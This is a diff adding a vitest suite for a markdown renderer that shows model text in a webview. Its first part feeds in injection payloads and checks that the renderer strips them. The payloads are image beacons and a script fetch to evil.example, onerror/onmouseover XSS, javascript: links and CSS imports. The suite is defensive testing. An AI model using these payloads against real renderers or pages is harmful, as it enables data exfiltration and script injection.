@@ -1,0 +1,126 @@
+import { describe, expect, it } from 'vitest';
+import { BlockStream } from '../../../webview/markdown/blockStream';
+import { lexMarkdown, renderToken } from '../../../webview/markdown/renderMarkdown';
+
+const render = (source: string): string => lexMarkdown(source).map(renderToken).join('');
+
+// Threat 14: text of a model must not load, run or lead anywhere by itself.
+describe('markdown that wants out', () => {
+  it.each([
+    ['a remote picture', '![x](https://evil.example/?q=secret)'],
+    ['a picture by reference', '![x][1]\n\n[1]: https://evil.example/a.png'],
+    ['raw HTML', '<img src=https://evil.example/a.png onerror=alert(1)>'],
+    ['a raw block', '<script>fetch("https://evil.example")</script>'],
+    ['inline raw HTML', 'a <b onmouseover="alert(1)">b</b> <iframe src="x"></iframe>'],
+    ['a style', '<style>@import "https://evil.example/a.css";</style>'],
+    ['a form', '<form action="https://evil.example"><input></form>'],
+    ['a script address', '[click](javascript:alert(1))'],
+    ['a command address', '[click](command:workbench.action.files.save)'],
+    ['markup in a title', '[a](https://example.com "x\\" onmouseover=\\"alert(1)")'],
+    ['markup in an address', '[a](https://example.com/"onmouseover="alert(1))'],
+    ['markup in the name of a language', '```"><img src=x>\ncode\n```'],
+    ['an autolink', 'https://example.com/<img>'],
+  ])('%s makes no element beside text and links without an address', (_name, source) => {
+    const html = render(source);
+    const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/g)];
+    for (const [, tag, attributes] of tags) {
+      expect(['p', 'a', 'span', 'pre', 'code', 'br']).toContain(tag);
+      const names = [...(attributes ?? '').matchAll(/([a-z-]+)="[^"]*"/g)].map((match) => match[1]);
+      expect(['class', 'role', 'tabindex', 'title', 'data-link']).toEqual(expect.arrayContaining(names));
+      expect((attributes ?? '').replace(/[a-z-]+="[^"]*"/g, '').trim()).toBe('');
+    }
+    expect(html).not.toMatch(/<(?:img|script|style|iframe|form|input|b)\b/);
+    expect(html).not.toMatch(/<[^>]*\s(?:href|src)=/);
+  });
+
+  it('shows where a link leads', () => {
+    expect(render('[docs](https://example.com/a)')).toBe(
+      '<p><a class="link" role="link" tabindex="0" data-link="https://example.com/a" title="https://example.com/a">docs</a> <span class="link-host">(example.com)</span></p>\n',
+    );
+    expect(render('[github.com](https://evil.example/)')).toContain(
+      '<span class="link-host">(evil.example)</span>',
+    );
+  });
+
+  it('shows the address of what is no link', () => {
+    expect(render('[click](javascript:alert(1))')).toBe('<p>click (javascript:alert(1))</p>\n');
+  });
+
+  it('breaks a line where raw HTML asks for just that', () => {
+    expect(render('a<br>b')).toBe('<p>a<br>b</p>\n');
+  });
+
+  it('shows a picture as a link', () => {
+    expect(render('![chart](https://example.com/a.png)')).toContain('>[image: chart]</a>');
+  });
+
+  it('opens files named in code', () => {
+    expect(render('see `src/cart.js:41`')).toContain('data-link="src/cart.js:41"');
+    expect(render('call `total(items)`')).toBe('<p>call <code>total(items)</code></p>\n');
+  });
+});
+
+describe('BlockStream', () => {
+  const source = `# Title
+
+First paragraph with **bold**.
+
+1. one
+
+2. two
+
+   more of two
+
+> quote
+
+\`\`\`js
+const a = 1;
+
+const b = 2;
+\`\`\`
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+Last [link][1] and text.
+
+[1]: https://example.com
+`;
+  const whole = render(source);
+
+  it('ends with the same as reading the whole at once, however it is cut', () => {
+    for (const step of [1, 2, 7, 40]) {
+      const stream = new BlockStream();
+      for (let end = step; end < source.length; end += step) stream.update(source.slice(0, end), false);
+      const html = stream
+        .update(source, true)
+        .map((block) => renderToken(block.token))
+        .join('');
+      expect(html.includes('>bold</strong>'), `step ${step}`).toBe(true);
+      expect(html.replaceAll(/\s+/g, ' '), `step ${step}`).toBe(whole.replaceAll(/\s+/g, ' '));
+    }
+  });
+
+  it('keeps the blocks before the last ones as they are', () => {
+    const stream = new BlockStream();
+    const before = stream.update('one\n\ntwo\n\nthree\n\nfo', false);
+    const after = stream.update('one\n\ntwo\n\nthree\n\nfour\n\nfive', false);
+    expect(after.slice(0, 3)).toEqual(before.slice(0, 3));
+    expect(after[0]).toBe(before[0]);
+    expect(after[1]).toBe(before[1]);
+    expect(after.map((block) => block.token.raw.trim())).toEqual(['one', 'two', 'three', 'four', 'five']);
+  });
+
+  it('begins anew with another text', () => {
+    const stream = new BlockStream();
+    stream.update('one\n\ntwo\n\nthree\n\nfour', false);
+    expect(stream.update('other', false).map((block) => block.token.raw)).toEqual(['other']);
+  });
+
+  it('reads line ends of every kind', () => {
+    const stream = new BlockStream();
+    stream.update('one\r\n\r\ntwo\r\n\r\nthree\r\n\r\nfo', false);
+    expect(stream.update('one\r\n\r\ntwo\r\n\r\nthree\r\n\r\nfour', true)).toHaveLength(4);
+  });
+});
